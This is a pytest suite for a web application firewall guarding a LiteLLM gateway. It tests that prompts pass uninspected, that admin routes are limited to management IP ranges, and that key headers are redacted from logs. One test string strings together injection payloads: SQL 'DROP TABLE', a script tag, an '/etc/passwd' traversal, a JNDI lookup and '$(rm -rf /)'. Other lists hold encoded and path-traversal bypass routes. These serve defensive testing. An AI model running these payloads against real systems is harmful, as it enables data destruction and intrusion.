"""The web ACL, asked about requests: prompts pass untouched, management has its ranges, some routes answer nobody."""

import re
from ipaddress import ip_network
from urllib.parse import quote

import pytest

from stacks.environments import environments
from stacks.settings import Environment
from tests.templates.conftest import Template, only, resources
from tests.templates.synthesis import text
from tests.templates.waf import Request, Verdict, WebAcl, normalize_path

ENVIRONMENTS = environments()
PROD = ENVIRONMENTS["prod"]
Templates = dict[str, dict[str, Template]]
in_every_environment = pytest.mark.parametrize("environment", ENVIRONMENTS.values(), ids=ENVIRONMENTS)

OPERATOR = str(next(PROD.ingress.management_cidrs[0].hosts()))
OFFICE = str(
    next(
        address
        for address in PROD.ingress.cidrs[0].hosts()
        if not any(address in cidr for cidr in PROD.ingress.management_cidrs)
    )
)

# 1 MB that rules for SQL injection, cross-site scripting, file inclusion and code execution would all refuse.
PROMPT = "'; DROP TABLE users; -- <script>alert(1)</script> ../../etc/passwd ${jndi:ldap://x/a} $(rm -rf /) " * 10_000

# What clients of LLMs call, by client.
PROMPT_ROUTES = {
    "OpenAI SDK": (
        "/v1/chat/completions",
        "/chat/completions",
        "/v1/completions",
        "/v1/embeddings",
        "/v1/responses",
        "/v1/moderations",
        "/v1/images/generations",
        "/v1/images/edits",
        "/v1/audio/speech",
        "/v1/audio/transcriptions",
        "/v1/files",
        "/v1/batches",
    ),
    "Azure OpenAI SDK": (
        "/openai/deployments/gpt-6-luna/chat/completions",
        "/openai/deployments/text-embedding-3-large/embeddings",
    ),
    "Codex CLI": ("/v1/responses", "/responses", "/v1/responses/compact"),
    "Claude Code": ("/v1/messages", "/v1/messages/count_tokens"),
    "Gemini CLI": (
        "/v1beta/models/gemini-4-argon:generateContent",
        "/v1beta/models/gemini-4-argon:streamGenerateContent",
        "/v1beta/models/gemini-4-argon:countTokens",
        "/models/gemini-3.8-flash:generateContent",
        "/v1beta/models/gemini-4-argon%3AgenerateContent",
    ),
}
READ_ROUTES = (
    "/v1/models",
    "/models",
    "/v1/models/claude-sonnet-5-5",
    "/v1/model/info",
    "/v1/responses/resp_0123",
    "/v1/responses/resp_0123/input_items",
    "/v1/files/file-0123/content",
    "/v1/batches/batch_0123",
    "/health/liveliness",
    "/health/readiness",
)

# The admin UI, and whatever manages accounts, keys, models, or the gateway itself.
MANAGEMENT_ROUTES = (
    *("/", "/ui", "/ui/", "/ui/login/", "/ui/chat", "/_next/static/chunk.js", "/litellm-asset-prefix/_next/x.js"),
    *("/docs", "/redoc", "/openapi.json", "/swagger/swagger-ui.css", "/routes", "/test", "/config/yaml"),
    *("/login", "/v2/login", "/sso/key/generate", "/sso/callback", "/fallback/login", "/onboarding/get_token"),
    *("/key/generate", "/key/info", "/key/list", "/key/sk-0/regenerate", "/user/new", "/user/info", "/user/list"),
    *("/team/new", "/organization/new", "/customer/new", "/invitation/new", "/budget/new", "/scim/v2/Users"),
    *("/model/new", "/model/update", "/model/delete", "/model_group/info", "/credentials", "/config/update"),
    *("/spend/logs", "/global/spend/report", "/user/daily/activity", "/cache/ping", "/debug/asyncio-tasks"),
    *("/health", "/health/services", "/health/test_connection", "/utils/transform_request", "/memory-usage"),
    # Straight through to a provider: without the model list, its prices, and what each key may use.
    *("/bedrock/model/x/invoke", "/vertex_ai/v1/projects/p", "/gemini/v1beta/models", "/anthropic/v1/messages"),
    *("/openai/v1/chat/completions", "/azure/openai", "/openai_passthrough/v1/files", "/vllm/v1/models"),
    *("/mcp", "/mcp/sse", "/mcp-rest/tools/call", "/v1/mcp/server", "/a2a/x", "/v1/agents", "/v1/vector_stores"),
    *("/guardrails/list", "/prompts", "/pass-through/x", "/public/model_hub", "/.well-known/litellm-ui-config"),
    "/a-route-that-a-later-version-brings",
)
# The same routes in disguise, and disguises that LiteLLM would not recognize either.
DISGUISES = (
    "/UI",
    "/%75i",
    "//ui",
    "/./ui",
    "/ui;x=/v1/models",
    "/ui%2f",
    "/ui%00/v1/models",
    "/key%2Fgenerate",
    "/%6bey/generate",
    "//key//generate",
    "/v1/models;/key/generate",
    "/v1/chat/completions/key/generate",
    "/v1/chat/completions%2f..",
    "/v1/chat/completionsx",
    "/x/v1/chat/completions",
    "/V1/chat/completions",
    "/v1/messages%252f..%252f..%252fkey%252fgenerate",
    "/v1/responses/x/y",
    "/models/x:generateContent/../../ui",
)
CLOSED_ROUTES = (
    *("/metrics", "/metrics/", "/metrics/x", "/Metrics", "//metrics", "/%6detrics", "/./metrics"),
    *("/prompts/test", "/prompts/test/", "/prompts/TEST", "/prompts//test", "/x/prompts/test", "/prompts%2Ftest"),
    *("/guardrails/test_custom_code", "/guardrails/test_custom_code/", "/guardrails/%74est_custom_code"),
    *("/mcp-rest/test/connection", "/mcp-rest/test/tools/list", "/mcp-rest/test", "/MCP-REST/test/connection"),
)
# A way back: WAF would judge where it leads to, LiteLLM answers for where it begins, as its router resolves nothing.
WAYS_BACK = (
    "/metrics/../v1/models",
    "/ui/../v1/models",
    "/bedrock/x/../../v1/messages",
    "/vertex_ai/../v1/models",
    "/credentials/x/../../v1/models",
    "/mcp/../v1/models",
    "/v1/../ui",
    "/v1/chat/completions/../../key/generate",
    "/v1/chat/completions/../../metrics",
    "/ui/%2e%2e/v1/models",
    "/ui/.%2E/v1/models",
    "/ui%2f..%2fv1/models",
    "/../v1/models",
    "/v1/models/..",
)

# Where LiteLLM looks for a caller's key (`SpecialHeaders` of its proxy/_types.py), and the UI's session.
KEY_HEADERS = {
    *("authorization", "x-api-key", "api-key", "x-goog-api-key", "x-litellm-api-key"),
    *("ocp-apim-subscription-key", "cookie"),
}


@pytest.fixture(scope="module")
def web_acl(templates: Templates) -> WebAcl:
    return WebAcl(templates["prod"]["Gateway"])


# Prompts


@pytest.mark.parametrize(
    "path", [pytest.param(path, id=f"{client} {path}") for client, paths in PROMPT_ROUTES.items() for path in paths]
)
def test_a_prompt_passes_and_nothing_looks_into_it(web_acl: WebAcl, path: str) -> None:
    assert len(PROMPT) > 900_000
    for address in (OFFICE, OPERATOR):
        request = Request(path, address, body=PROMPT)
        assert web_acl.verdict(request) == Verdict()
        assert web_acl.body_inspectors(request) == set()


@pytest.mark.parametrize("path", READ_ROUTES)
def test_reading_passes(web_acl: WebAcl, path: str) -> None:
    assert web_acl.verdict(Request(path, OFFICE, method="GET")) == Verdict()


# Management


@pytest.mark.parametrize("path", MANAGEMENT_ROUTES)
def test_management_answers_only_its_ranges(web_acl: WebAcl, path: str) -> None:
    assert web_acl.verdict(Request(path, OFFICE)) == Verdict(403, "ManagementRoutes")
    assert web_acl.verdict(Request(path, OPERATOR)) == Verdict()


@pytest.mark.parametrize("path", DISGUISES)
def test_a_disguise_does_not_open_management(web_acl: WebAcl, path: str) -> None:
    assert web_acl.verdict(Request(path, OFFICE)).status == 403


@pytest.mark.parametrize("method", ["GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE"])
def test_management_is_closed_to_every_method(web_acl: WebAcl, method: str) -> None:
    assert web_acl.verdict(Request("/key/generate", OFFICE, method=method)).status == 403


# Routes that answer nobody


@pytest.mark.parametrize("address", [OFFICE, OPERATOR])
@pytest.mark.parametrize("path", CLOSED_ROUTES)
def test_closed_to_everyone(web_acl: WebAcl, path: str, address: str) -> None:
    assert web_acl.verdict(Request(path, address)).status == 403


@pytest.mark.parametrize("address", [OFFICE, OPERATOR])
@pytest.mark.parametrize("path", WAYS_BACK)
def test_a_way_back_in_the_path_is_refused(web_acl: WebAcl, path: str, address: str) -> None:
    assert web_acl.verdict(Request(path, address)).status == 403


# The rules themselves


@in_every_environment
def test_ranges_are_those_of_the_settings(templates: Templates, environment: Environment) -> None:
    ranges = only(templates[environment.name]["Gateway"], "AWS::WAFv2::IPSet")["Addresses"]
    assert {ip_network(cidr) for cidr in ranges} == set(environment.ingress.management_cidrs)


@in_every_environment
def test_rules_are_the_same_in_every_environment(templates: Templates, environment: Environment) -> None:
    found = WebAcl(templates[environment.name]["Gateway"])
    assert found.rules == WebAcl(templates["prod"]["Gateway"]).rules
    assert "Allow" in found.acl["DefaultAction"]  # what none of them refuses


@in_every_environment
def test_guards_the_load_balancer(templates: Templates, environment: Environment) -> None:
    association = only(templates[environment.name]["Gateway"], "AWS::WAFv2::WebACLAssociation")
    assert text(association["ResourceArn"]) == "<EdgeLoadBalancer>"
    assert text(association["WebACLArn"]) == "<EdgeWebAcl.Arn>"


def test_managed_groups(web_acl: WebAcl) -> None:
    groups = {
        rule["Name"]: rule["OverrideAction"]
        for rule in web_acl.rules
        if "ManagedRuleGroupStatement" in rule["Statement"]
    }
    assert groups == {
        "AWSManagedRulesAmazonIpReputationList": {"None": {}},  # not merely counted
        "AWSManagedRulesKnownBadInputsRuleSet": {"None": {}},
    }


def test_known_bad_inputs_are_looked_for_where_no_prompt_goes(web_acl: WebAcl) -> None:
    assert web_acl.body_inspectors(Request("/key/generate", OPERATOR)) == {"AWSManagedRulesKnownBadInputsRuleSet"}


@in_every_environment
def test_rate_of_each_address(templates: Templates, environment: Environment) -> None:
    """By address alone, whatever is asked for, with an answer that clients take for what it is."""
    rules = WebAcl(templates[environment.name]["Gateway"]).rules
    (rate,) = (rule for rule in rules if "RateBasedStatement" in rule["Statement"])
    assert rate["Statement"]["RateBasedStatement"] == {
        "AggregateKeyType": "IP",
        "Limit": environment.ingress.requests_per_address,
        "EvaluationWindowSec": 300,
    }
    assert rate["Action"]["Block"]["CustomResponse"] == {"ResponseCode": 429}


def test_regular_expressions_are_within_the_limits(templates: Templates) -> None:
    """https://docs.aws.amazon.com/waf/latest/developerguide/limits.html and …/waf-regex-pattern-support.html."""
    unsupported = re.compile(r"\\[1-9CRK]|\(\?[>(|&RP!=<]|\(\*|[*+?}]\+")
    for properties in resources(templates["prod"]["Gateway"], "AWS::WAFv2::RegexPatternSet").values():
        patterns = properties["RegularExpressionList"]
        assert 1 <= len(patterns) <= 10
        for pattern in patterns:
            re.compile(pattern)
            assert len(pattern) <= 200
            assert not unsupported.search(pattern)


# The log


@in_every_environment
def test_log_holds_no_key(templates: Templates, environment: Environment) -> None:
    template = templates[environment.name]["Gateway"]
    redacted = only(template, "AWS::WAFv2::LoggingConfiguration")["RedactedFields"]
    headers = {field["SingleHeader"]["Name"] for field in redacted if "SingleHeader" in field}
    assert headers >= KEY_HEADERS
    assert {"QueryString": {}} in redacted  # ?key=… of Google's clients
    assert all(redacted)


@in_every_environment
def test_only_what_was_blocked_is_logged(templates: Templates, environment: Environment) -> None:
    template = templates[environment.name]["Gateway"]
    logging = only(template, "AWS::WAFv2::LoggingConfiguration")
    kept = [{"ActionCondition": {"Action": "BLOCK"}}]
    assert logging["LoggingFilter"] == {
        "DefaultBehavior": "DROP",
        "Filters": [{"Behavior": "KEEP", "Requirement": "MEETS_ANY", "Conditions": kept}],
    }
    # Samples, in the console, would show whole requests.
    acl = only(template, "AWS::WAFv2::WebACL")
    for visible in (acl, *acl["Rules"]):
        assert visible["VisibilityConfig"]["SampledRequestsEnabled"] is False


# The evaluator


@pytest.mark.parametrize(
    ("path", "normal"),
    [
        ("/", "/"),
        ("/a/b", "/a/b"),
        ("//a///b", "/a/b"),
        ("/a/./b/.", "/a/b/"),
        ("/a/../b", "/b"),
        ("/a/b/../../c/", "/c/"),
        ("/../a", "/../a"),
        ("/a/..", "/"),
    ],
)
def test_normalize_path(path: str, normal: str) -> None:
    assert normalize_path(path) == normal


def test_paths_are_decoded_once(web_acl: WebAcl) -> None:
    once = quote("/v1/models", safe="")
    assert web_acl.verdict(Request(once, OFFICE)) == Verdict()
    assert web_acl.verdict(Request(quote(once), OFFICE)).status == 403
